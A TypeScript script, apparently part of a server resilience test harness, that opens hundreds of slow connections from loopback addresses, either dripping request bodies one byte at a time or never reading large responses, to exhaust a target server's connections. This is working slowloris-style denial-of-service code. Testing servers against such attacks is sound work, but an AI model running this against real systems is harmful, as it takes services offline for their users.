import { connect } from "node:net";
import type { Attack } from "./attack.ts";

/** The slow clients. Those that send come again when they are ended; those that do not read do not hear of their end. */
const BYTE_EVERY_MS = 5000;
const AGAIN_MS = 250;
/** What opens at once: a listener's line is not what is measured. */
const ABREAST = 200;
const OPENED_WITHIN_MS = 5000;
/** 127.0.0.1 is the admitted's. */
const FIRST_ADDRESS = 2;

const attack: Attack = JSON.parse(process.argv[2] ?? "{}");
const { hostname, port } = new URL(attack.url);
let opened = 0;
let holding = 0;
let isTold = false;

function open(at: number): void {
  const localAddress = `127.0.0.${FIRST_ADDRESS + (at % attack.addresses)}`;
  const socket = connect({ host: hostname, port: Number(port), localAddress, noDelay: true });
  let timer: NodeJS.Timeout | undefined;
  if (attack.kind !== "body") socket.pause();
  else socket.resume();
  socket.on("error", () => {});
  socket.once("connect", () => {
    holding += 1;
    socket.write(request());
    if (attack.kind === "body") timer = setInterval(() => socket.write("x"), BYTE_EVERY_MS);
    next();
  });
  socket.once("close", () => {
    if (timer !== undefined) holding -= 1;
    clearInterval(timer);
    setTimeout(() => open(at), AGAIN_MS);
  });
}

function request(): string {
  const host = "Host: shop.test\r\n";
  if (attack.kind === "body") return `POST /static/form HTTP/1.1\r\n${host}Content-Length: 100000\r\n\r\nx`;
  if (attack.kind === "unread") return `GET /static/large HTTP/1.1\r\n${host}\r\n`;
  return `GET /large HTTP/1.1\r\n${host}Cookie: ${attack.cookie}\r\n\r\n`;
}

function next(): void {
  if (opened < attack.clients) open(opened++);
  else if (holding >= attack.clients) tell();
}

function tell(): void {
  if (!isTold) process.stdout.write("holding\n");
  isTold = true;
}

// Connections that are not read keep no process alive.
setInterval(() => {}, OPENED_WITHIN_MS);
setTimeout(tell, OPENED_WITHIN_MS);
for (let i = 0; i < ABREAST; i++) next();
